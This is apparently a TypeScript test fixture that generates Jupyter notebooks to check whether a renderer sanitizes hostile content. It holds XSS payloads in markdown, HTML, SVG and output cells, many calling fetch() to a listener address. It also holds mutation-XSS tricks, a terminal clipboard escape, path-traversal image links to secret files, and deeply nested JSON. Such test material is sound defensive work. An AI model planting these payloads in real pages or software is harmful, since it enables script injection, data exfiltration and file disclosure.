/** Forty notebooks of somebody who means it, three good ones among them; a listener's address is what they call. */

interface Cell {
  cell_type?: unknown;
  id?: unknown;
  metadata?: unknown;
  source?: unknown;
  outputs?: unknown;
  execution_count?: unknown;
  attachments?: unknown;
}

/** A notebook file and whether it is a sound one, which has to come through. */
export interface HostileNotebook {
  readonly name: string;
  readonly text: string | Buffer;
  readonly good: boolean;
}

const md = (source: unknown, more: Cell = {}): Cell => ({
  cell_type: 'markdown',
  metadata: {},
  source,
  ...more,
});
const code = (source: unknown, outputs: unknown = [], more: Cell = {}): Cell => ({
  cell_type: 'code',
  execution_count: null,
  metadata: {},
  source,
  outputs,
  ...more,
});
const html = (text: unknown) => [{ output_type: 'display_data', metadata: {}, data: { 'text/html': text } }];
const svg = (text: unknown) => [
  { output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': text } },
];

const whole = (
  cells: unknown,
  metadata: unknown = { kernelspec: { name: 'python3', display_name: 'Python' } },
) =>
  JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata,
    cells: Array.isArray(cells)
      ? cells.map((cell: unknown, i) =>
          typeof cell === 'object' && cell !== null ? { id: `cell-${i}`, ...cell } : cell,
        )
      : cells,
  });

/** Prose and outputs that would run or fetch something in a page; they are sound notebooks, made harmless. */
const PAGES = (url: string): Readonly<Record<string, string>> => ({
  script: whole([md(`# s\n\n<script src="${url}/a.js"></script><script>fetch("${url}/b")</script>`)]),
  handler: whole([md(`# h\n\n<b onclick="fetch('${url}')" onmouseover=alert(1)>x</b>`)]),
  link: whole([
    md(
      `# l\n\n<a href="javascript:fetch('${url}')">x</a> [y](javascript:alert%281%29) [z](file:///etc/passwd)`,
    ),
  ]),
  frame: whole([
    md(`# f\n\n<iframe src="${url}"></iframe><embed src="${url}"><object data="${url}"></object>`),
  ]),
  remote: whole([
    md(`# r\n\n![x](${url}/p.png) <img src="${url}/q.png" srcset="${url}/r.png 2x"> <img src=//127.0.0.1/x>`),
  ]),
  style: whole([
    md(
      `# y\n\n<style>@import "${url}/s.css"</style><p style="background:url(${url}/t)">x</p><link rel=stylesheet href="${url}/u">`,
    ),
  ]),
  meta: whole([md(`# m\n\n<meta http-equiv="refresh" content="0;url=${url}"><base href="${url}/">`)]),
  form: whole([
    md(
      `# o\n\n<form action="${url}"><input autofocus onfocus="fetch('${url}')"><button formaction="${url}">x</button></form>`,
    ),
  ]),
  media: whole([
    md(
      `# v\n\n<video src="${url}/v" poster="${url}/w" autoplay></video><audio src="${url}/a"></audio><track src="${url}">`,
    ),
  ]),
  mutation: whole([
    md(
      `# x\n\n<svg><title><img title="</title><script>fetch('${url}')</script>"></svg><noscript><p title="</noscript><img src=x onerror=fetch('${url}')>">`,
    ),
  ]),
  xmp: whole([
    md(
      `# p\n\n<xmp><script>fetch('${url}')</script></xmp><textarea/><img src=x onerror="fetch('${url}')"></textarea>`,
    ),
  ]),
  output: whole([
    md('# t'),
    code('1', html(`<script>fetch("${url}")</script><img src="${url}/i" onerror="fetch('${url}')">`)),
  ]),
  chart: whole([
    md('# c'),
    code(
      '1',
      svg(
        `<svg onload="fetch('${url}')"><script>fetch('${url}')</script><image href="${url}/j.png"/><foreignObject><iframe src="${url}"/></foreignObject><a xlink:href="javascript:1"><text>t</text></a><use href="${url}/k.svg#a"/></svg>`,
      ),
    ),
  ]),
  png: whole([
    md('# g'),
    code('1', [
      {
        output_type: 'display_data',
        metadata: {},
        data: { 'image/png': `"><script>fetch("${url}")</script>` },
      },
    ]),
  ]),
  stream: whole([
    md('# n'),
    code('1', [
      {
        output_type: 'stream',
        name: 'stdout',
        text: `</pre><script>fetch("${url}")</script>\u001b]52;c;x\u0007`,
      },
    ]),
  ]),
  error: whole([
    md('# e'),
    code('1', [{ output_type: 'error', ename: '<script>', evalue: `fetch("${url}")`, traceback: [] }], {
      metadata: { tags: ['raises-exception'] },
    }),
  ]),
});

/** Pictures from elsewhere on the disk, and formulas: the section cannot be laid out. */
const ELSEWHERE: Readonly<Record<string, string>> = {
  climbing: whole([md('# a\n\n![x](../../secret.txt)')]),
  absolute: whole([md('# b\n\n![x](/etc/hostname)')]),
  encoded: whole([md('# c\n\n![x](%2e%2e/%2e%2e/secret.txt)')]),
  broken: whole([md('# d\n\n![x](%E0%A4%A)')]),
  formula: whole([md('# e\n\n$\\undefinedmacro{x}$')]),
};

const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;

/** Files that are no notebooks, or have parts of other types than they should. */
const MALFORMED: Readonly<Record<string, string | Buffer>> = {
  empty: '',
  text: 'not a notebook',
  list: '[]',
  nothing: 'null',
  bytes: Buffer.from([0xff, 0xfe, 0, 1, 2, 3]),
  nested: `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":${deep(50_000)}}`,
  old: '{"nbformat":99,"cells":[]}',
  nocells: whole(5),
  nullcell: whole([null]),
  celltype: whole([{ cell_type: 'evil', metadata: {}, source: '' }]),
  source: whole([code(5)]),
  sources: whole([md(['a', 5])]),
  tags: whole([code('1', [], { metadata: { tags: 5 } })]),
  tagkinds: whole([code('1', [], { metadata: { tags: [{}] } })]),
  metadata: whole([code('1', [], { metadata: [] })]),
  outputs: whole([code('1', 5)]),
  output: whole([code('1', [5])]),
  spec: whole([code('1')], { kernelspec: 5 }),
  specname: whole([code('1')], { kernelspec: { name: ['x'] } }),
};

/** Named `NN-kind-name`, in an order that mixes good and bad. */
export function hostileNotebooks(url: string): HostileNotebook[] {
  const good = (title: string) => whole([md(`# ${title}\n\nwords`), code('print("fine")')]);
  const of = (kind: string, files: Readonly<Record<string, string | Buffer>>, sound: boolean) =>
    Object.entries(files).map(([name, text]) => ({ name: `${kind}-${name}`, text, good: sound }));
  const all = [
    { name: 'good-first', text: good('first'), good: true },
    ...of('page', PAGES(url), true),
    { name: 'good-middle', text: good('middle'), good: true },
    ...of('elsewhere', ELSEWHERE, false),
    ...of('malformed', MALFORMED, false),
    { name: 'good-last', text: good('last'), good: true },
  ];
  return all.map((one, i) => ({ ...one, name: `${String(i + 1).padStart(2, '0')}-${one.name}` }));
}
